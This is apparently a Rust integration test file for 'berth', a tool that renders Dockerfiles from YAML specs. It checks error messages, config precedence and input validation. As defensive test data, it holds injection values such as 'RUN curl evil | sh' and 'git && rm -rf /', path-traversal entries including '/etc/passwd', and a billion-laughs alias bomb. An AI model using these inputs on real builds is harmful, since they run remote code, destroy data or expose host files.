//! The `berth` binary as a user runs it: help that teaches, names, Dockerfiles, and errors a person can act on.

use std::path::Path;

fn write(dir: &Path, name: &str, text: &str) {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("create folder");
    }
    std::fs::write(path, text).expect("write file");
}

fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    run_with(dir, args, &[])
}

/// [`run`] with `vars` set in berth's environment only (never the test process's: services are shared).
fn run_with(dir: &Path, args: &[&str], vars: &[(&str, &str)]) -> (i32, String, String) {
    let out = std::process::Command::new(berth_tests::berth_bin())
        .args(args)
        .current_dir(dir)
        .env_remove("BERTH_ENGINE")
        .envs(vars.iter().copied())
        .output()
        .expect("run berth");
    (
        out.status.code().expect("exit code"),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn help_explains_with_examples() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (code, out, _) = run(dir.path(), &["--help"]);
    assert_eq!(code, 0);
    assert!(
        out.contains("Examples:") && out.contains("berth name spec.yaml"),
        "{out}"
    );
    for sub in ["name", "render"] {
        let (code, out, _) = run(dir.path(), &[sub, "--help"]);
        assert_eq!(code, 0);
        assert!(
            out.contains(&format!("berth {sub} spec.yaml")),
            "{sub} --help lacks an example:\n{out}"
        );
    }
}

#[test]
fn a_typo_names_file_line_column_and_the_nearest_field() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(
        dir.path(),
        "spec.yaml",
        "name: app\npakages: [numpy]\napt_pakages: [git]\n",
    );
    let (code, out, err) = run(dir.path(), &["name", "spec.yaml"]);
    assert_eq!(code, 2, "{err}");
    assert!(out.is_empty());
    assert!(err.contains("spec.yaml:2:1"), "{err}");
    assert!(
        err.contains("unknown field `pakages`; did you mean `packages`?"),
        "{err}"
    );
    // Every unknown field, not only the first.
    assert!(
        err.contains("spec.yaml:3:1: unknown field `apt_pakages`; did you mean `apt_packages`?"),
        "{err}"
    );
}

#[test]
fn an_unquoted_python_version_gets_a_hint_to_quote_it() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "spec.yaml", "name: app\npython_version: 3.10\n");
    let (code, _, err) = run(dir.path(), &["name", "spec.yaml"]);
    assert_eq!(code, 2);
    assert!(err.contains("spec.yaml:2:17"), "{err}");
    assert!(
        err.contains("`python_version`") && err.contains("3.1") && err.contains("quote it"),
        "{err}"
    );
    assert!(
        err.contains("quote it: python_version: \"3.10\""),
        "the fix quotes what was written: {err}"
    );
}

#[test]
fn copy_entries_cannot_leave_the_spec_folder() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "outside.txt", "secret");
    write(dir.path(), "proj/ok.txt", "fine");
    std::os::unix::fs::symlink(
        dir.path().join("outside.txt"),
        dir.path().join("proj/link.txt"),
    )
    .expect("symlink");
    for (entry, expect) in [
        ("../outside.txt", "without `..`"),
        ("/etc/passwd", "not absolute"),
        ("link.txt", "through a symlink"),
    ] {
        write(
            dir.path(),
            "proj/spec.yaml",
            &format!("name: app\ncopy: [\"{entry}\"]\n"),
        );
        let (code, _, err) = run(dir.path(), &["name", "proj/spec.yaml"]);
        assert_eq!(code, 2, "{entry}: {err}");
        assert!(err.contains(expect), "{entry}: {err}");
        if entry.starts_with("..") {
            assert!(
                err.contains("hint: move the files the image needs under the spec's folder"),
                "{err}"
            );
        }
    }
}

#[test]
fn name_without_specs_names_every_image_of_the_project() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(
        dir.path(),
        "berth.yaml",
        "registry: 127.0.0.1:5000/team\nimages:\n  a: {name: a, packages: [six]}\n  b: {name: b, packages: [idna]}\n",
    );
    std::fs::create_dir_all(dir.path().join("sub")).expect("sub folder");
    let (code, out, err) = run(&dir.path().join("sub"), &["name"]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with("127.0.0.1:5000/team/a:"), "{out}");
    assert!(lines[1].starts_with("127.0.0.1:5000/team/b:"), "{out}");
    let (code, json, err) = run(dir.path(), &["name", "--json"]);
    assert_eq!(code, 0, "{err}");
    let items: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(items[1]["spec"], "b", "{items}");

    let outside = tempfile::tempdir().expect("temp dir");
    for command in ["name", "exists"] {
        let (code, _, err) = run(outside.path(), &[command]);
        assert_eq!(code, 2, "{command}: {err}");
        assert!(
            err.contains("no berth.yaml in this folder or above")
                && err.contains(&format!("berth {command} spec.yaml")),
            "{command}: {err}"
        );
    }
}

#[test]
fn verify_public_given_a_spec_file_says_how_to_check_its_image() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "spec.yaml", "name: app\n");
    let (code, out, err) = run(dir.path(), &["verify-public", "spec.yaml"]);
    assert_eq!(code, 2, "{err}");
    assert!(out.is_empty(), "{out}");
    assert!(err.contains("`spec.yaml` is a spec file"), "{err}");
    assert!(
        err.contains("berth verify-public $(berth name spec.yaml)")
            && err.contains("berth build --verify-public spec.yaml"),
        "{err}"
    );
}

#[test]
fn an_unknown_engine_in_the_environment_says_to_fix_the_variable() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "spec.yaml", "name: app\n");
    let out = std::process::Command::new(berth_tests::berth_bin())
        .args(["build", "--no-push", "spec.yaml"])
        .env("BERTH_ENGINE", "nerdctl")
        .current_dir(dir.path())
        .output()
        .expect("run berth");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("BERTH_ENGINE=nerdctl: unknown engine"),
        "{err}"
    );
    assert!(
        err.contains("set BERTH_ENGINE to docker, podman, containerd, lxd or auto, or unset it"),
        "{err}"
    );
}

#[test]
fn values_that_would_inject_dockerfile_instructions_are_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    for (spec, field) in [
        ("env: {A: \"x\\nRUN curl evil | sh\"}", "env"),
        ("commands: [\"echo hi \\\\\"]", "commands"),
        ("apt_packages: [\"git && rm -rf /\"]", "apt_packages"),
        ("packages: [\"numpy\\nRUN evil\"]", "packages"),
        ("python_exec: \"/usr/bin/python3 && evil\"", "python_exec"),
        ("base_image: \"debian\\nRUN evil\"", "base_image"),
    ] {
        write(dir.path(), "spec.yaml", &format!("name: app\n{spec}\n"));
        let (code, out, err) = run(dir.path(), &["render", "spec.yaml"]);
        assert_eq!(code, 2, "{spec}: {out}{err}");
        assert!(err.contains(&format!("`{field}`")), "{spec}: {err}");
        assert!(out.is_empty(), "{spec}: nothing may be rendered: {out}");
    }
}

#[test]
fn source_root_without_a_copy_mode_is_refused_with_what_to_use() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "src/app.py", "print(1)\n");
    write(dir.path(), "spec.yaml", "name: app\nsource_root: src\n");
    let (code, _, err) = run(dir.path(), &["name", "spec.yaml"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("LOADED_MODULES") && err.contains("source_copy_mode: 2"),
        "{err}"
    );
}

#[test]
fn render_builds_on_a_nested_spec_by_its_name() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(
        dir.path(),
        "base.yaml",
        "name: base\nregistry: 127.0.0.1:5000/t\npython_exec: /usr/bin/python3\n",
    );
    write(
        dir.path(),
        "app.yaml",
        "name: app\nbase_image: {spec: base.yaml}\npython_exec: /usr/bin/python3\n",
    );
    let (code, base_name, err) = run(dir.path(), &["name", "base.yaml"]);
    assert_eq!(code, 0, "{err}");
    let (code, dockerfile, err) = run(dir.path(), &["render", "app.yaml"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        dockerfile.contains(&format!("\nFROM {}\n", base_name.trim())),
        "{dockerfile}"
    );
    assert!(dockerfile
        .trim_end()
        .ends_with(&format!("ENV _F_IMG_ID=\"{}\"", last_id(&dockerfile))));
}

fn last_id(dockerfile: &str) -> String {
    let line = dockerfile.lines().last().expect("a line");
    line.trim_start_matches("ENV _F_IMG_ID=\"")
        .trim_end_matches('"')
        .to_string()
}

#[test]
fn render_lists_the_context() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "data/a.txt", "a");
    write(dir.path(), "data/sub/b.txt", "b");
    write(
        dir.path(),
        "spec.yaml",
        "name: app\npython_exec: python3\ncopy: [data]\npackages: [six]\n",
    );
    let (code, out, err) = run(dir.path(), &["render", "--context", "spec.yaml"]);
    assert_eq!(code, 0, "{err}");
    let paths: Vec<&str> = out
        .lines()
        .map(|l| l.split('\t').next().unwrap_or(""))
        .collect();
    assert_eq!(
        paths,
        ["requirements_uv.txt", "data/a.txt", "data/sub/b.txt"]
    );
}

#[test]
fn a_missing_spec_says_which_file() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (code, _, err) = run(dir.path(), &["name", "nope.yaml"]);
    assert_eq!(code, 2);
    assert!(err.contains("nope.yaml"), "{err}");
}

#[test]
fn render_help_lists_every_spec_field() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (code, out, _) = run(dir.path(), &["render", "--help"]);
    assert_eq!(code, 0);
    for field in berth_core::spec::FIELDS {
        assert!(
            out.contains(field.name()),
            "render --help does not list `{field}`:\n{out}"
        );
    }
}

#[test]
fn an_unknown_engine_is_refused_before_any_other_work() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(
        dir.path(),
        "spec.yaml",
        "name: app\nregistry: registry.invalid/team\n",
    );
    let (code, out, err) = run(dir.path(), &["build", "--engine", "dokcer", "spec.yaml"]);
    assert_eq!(code, 2, "{err}");
    assert!(out.is_empty());
    assert!(
        err.contains("unknown engine `dokcer`; known engines: docker, podman, containerd"),
        "{err}"
    );
    assert!(
        !err.contains("registry"),
        "no registry was contacted: {err}"
    );
}

#[test]
fn config_shows_each_setting_and_where_it_came_from() {
    let home = tempfile::tempdir().expect("temp dir");
    let user_file = home.path().join("user.yaml");
    std::fs::write(
        &user_file,
        "engine: docker\nregistry: user.example/team\ndefault_image: user.example/flytekit:1\n",
    )
    .expect("write user file");
    let project = tempfile::tempdir().expect("temp dir");
    write(
        project.path(),
        "berth.yaml",
        "engine: {name: podman, podman: {socket: unix:///run/elsewhere.sock}}\nregistry: project.example/team\nimages:\n  a: {name: a}\ntasks:\n  t1: a\n  t2:\n",
    );
    let deep = project.path().join("src/pkg");
    std::fs::create_dir_all(&deep).expect("mkdir");
    let user = user_file.to_str().expect("utf-8");
    let run = |envs: &[(&str, &str)]| {
        let mut all = vec![("BERTH_CONFIG", user)];
        all.extend_from_slice(envs);
        let out = berth_tests::berth_with(&deep, &["config", "--json"], &all, "");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).expect("JSON")
    };
    let config = run(&[]);
    let project_file = project.path().join("berth.yaml").display().to_string();
    assert_eq!(
        config["project_file"],
        project_file.as_str(),
        "found walking up"
    );
    assert_eq!(config["engine"]["value"], "podman", "{config}");
    assert_eq!(config["engine"]["source"], format!("from {project_file}"));
    assert_eq!(
        config["connection"]["podman_socket"],
        "unix:///run/elsewhere.sock"
    );
    assert_eq!(
        config["registry"]["value"], "project.example/team",
        "the project beats the user file"
    );
    assert_eq!(
        config["default_image"]["value"], "user.example/flytekit:1",
        "the user file fills what the project leaves out"
    );
    assert_eq!(config["default_image"]["source"], format!("from {user}"));
    assert_eq!(config["tasks"], serde_json::json!({"t1": "a", "t2": null}));

    let config = run(&[
        ("BERTH_REGISTRY", "env.example/x"),
        ("BERTH_ENGINE", "docker"),
    ]);
    assert_eq!(
        config["registry"]["value"], "env.example/x",
        "the environment beats the files"
    );
    assert_eq!(config["registry"]["source"], "from BERTH_REGISTRY");
    assert_eq!(config["engine"]["value"], "docker");
    assert_eq!(config["engine"]["source"], "from BERTH_ENGINE");
}

#[test]
fn a_bad_project_file_is_a_clear_error_that_points_at_the_line() {
    let project = tempfile::tempdir().expect("temp dir");
    write(
        project.path(),
        "berth.yaml",
        "registry: r.example/x\nimages:\n  a: {name: a}\ntasks:\n  train: trainer\n",
    );
    let (code, _, err) = run(project.path(), &["build"]);
    assert_eq!(code, 2, "invalid input: {err}");
    assert!(
        err.contains("berth.yaml:5:10"),
        "points at the task's value: {err}"
    );
    assert!(
        err.contains("task `train` names the image `trainer`"),
        "{err}"
    );
    assert!(err.contains("images defined here: a"), "{err}");

    write(project.path(), "berth.yaml", "regsitry: r.example/x\n");
    let (code, _, err) = run(project.path(), &["build"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("unknown setting `regsitry`; did you mean `registry`?"),
        "{err}"
    );
}

#[test]
fn a_billion_laughs_spec_is_refused_at_its_alias() {
    // Eight levels of ten aliases: under 1 KB of text, 10^8 values if berth copied every alias.
    let mut text = String::from("name: app\nl0: &l0 [lol]\n");
    for level in 1..=8 {
        let refs = vec![format!("*l{}", level - 1); 10].join(", ");
        text.push_str(&format!("l{level}: &l{level} [{refs}]\n"));
    }
    assert!(text.len() < 1024);
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "spec.yaml", &text);
    // Under a 4 GiB address-space limit berth before the alias budget died of a failed allocation instead of
    // taking the machine down; with the budget it stops at the alias that crosses it.
    let out = std::process::Command::new("prlimit")
        .arg("--as=4294967296")
        .arg(berth_tests::berth_bin())
        .args(["name", "spec.yaml"])
        .current_dir(dir.path())
        .output()
        .expect("run berth under prlimit");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("spec.yaml:6:"), "{err}");
    assert!(
        err.contains("aliases in this file expand to more than"),
        "{err}"
    );
}

#[test]
fn login_refuses_a_repository_path_and_names_the_host() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (code, _, err) = run(
        dir.path(),
        &[
            "login",
            "127.0.0.1:5000/team",
            "-u",
            "me",
            "--password-stdin",
        ],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("names a repository path") && err.contains("`berth login 127.0.0.1:5000`"),
        "{err}"
    );
}

#[test]
fn an_engine_address_the_user_set_that_does_not_answer_is_named_not_passed_over() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "spec.yaml", "name: local-only\n");
    let docker = format!("unix://{}/docker-dead.sock", dir.path().display());
    let podman = format!("unix://{}/podman-dead.sock", dir.path().display());
    let vars = [
        ("DOCKER_HOST", docker.as_str()),
        ("CONTAINER_HOST", podman.as_str()),
    ];
    let (code, out, err) = run_with(dir.path(), &["config"], &vars);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains(&format!(
            "none: {docker_var}={docker} names the docker engine, which does not answer there: no such socket",
            docker_var = "DOCKER_HOST"
        )),
        "{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("docker host") && l.ends_with("(from DOCKER_HOST)")),
        "{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("podman socket") && l.ends_with("(from CONTAINER_HOST)")),
        "{out}"
    );

    // A build does not quietly go to another engine: it stops, naming the variable and how to get out.
    for vars in [&vars[..], &vars[..1]] {
        let (code, _, err) = run_with(dir.path(), &["build", "--no-push", "spec.yaml"], vars);
        assert_eq!(code, 3, "{err}");
        assert!(
            err.contains(&format!("DOCKER_HOST={docker} names the docker engine"))
                && err.contains("unset DOCKER_HOST"),
            "{err}"
        );
        assert!(!err.contains("engine: "), "no engine was used: {err}");
    }

    // Chosen explicitly, an unusable CONTAINER_HOST is named too.
    let (code, _, err) = run_with(
        dir.path(),
        &["build", "--engine", "podman", "--no-push", "spec.yaml"],
        &[("CONTAINER_HOST", "nowhere")],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("CONTAINER_HOST=nowhere: ") && err.contains("unset CONTAINER_HOST"),
        "{err}"
    );
}

/// The project example of `berth build --help`, used as written, names each image after its entry.
#[test]
fn the_build_help_project_example_works_as_written() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (code, help, _) = run(dir.path(), &["build", "--help"]);
    assert_eq!(code, 0);
    let example: String = help
        .lines()
        .skip_while(|l| !l.trim_start().starts_with("engine: podman"))
        .take_while(|l| l.starts_with("    ") || l.is_empty())
        .map(|l| format!("{}\n", l.strip_prefix("    ").unwrap_or(l)))
        .collect();
    assert!(example.contains("trainer:"), "{help}");
    write(dir.path(), "berth.yaml", &example);
    write(dir.path(), "specs/base.yaml", "name: base\n");
    let (code, out, err) = run(dir.path(), &["name"]);
    assert_eq!(code, 0, "{err}\n{example}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("ghcr.io/my-org/trainer:")),
        "{out}"
    );
    assert!(!out.contains("/flytekit:"), "{out}");
}

/// `berth build --check --json` answers on stdout, whatever the answer.
#[test]
fn build_check_json_prints_the_answer() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(
        dir.path(),
        "berth.yaml",
        "registry: 127.0.0.1:5000/team\nimages:\n  a: {name: a, packages: [six]}\ntasks:\n  t: a\n",
    );
    let (code, out, err) = run(dir.path(), &["build", "--check", "--json"]);
    assert_eq!(code, 1, "no lock yet: {err}");
    let answer: serde_json::Value = serde_json::from_str(&out).expect("JSON on stdout");
    assert_eq!(answer["current"], false, "{answer}");
    assert!(
        answer["stale"][0]
            .as_str()
            .unwrap_or_default()
            .ends_with("berth.lock does not exist"),
        "{answer}"
    );
    let name = answer["tasks"]["t"].as_str().expect("task t").to_string();
    assert!(name.starts_with("127.0.0.1:5000/team/a:"), "{answer}");

    // A lock that matches: current, and still JSON.
    let lock = format!(
        "{{\"version\": 1, \"images\": {{\"a\": \"{name}@sha256:{zeros}\"}}, \"tasks\": {{\"t\": \"{name}@sha256:{zeros}\"}}}}",
        zeros = "0".repeat(64)
    );
    write(dir.path(), "berth.lock", &lock);
    let (code, out, err) = run(dir.path(), &["build", "--check", "--json"]);
    assert_eq!(code, 0, "{err}");
    let answer: serde_json::Value = serde_json::from_str(&out).expect("JSON on stdout");
    assert_eq!(answer["current"], true, "{answer}");
    assert_eq!(answer["stale"], serde_json::json!([]), "{answer}");
}
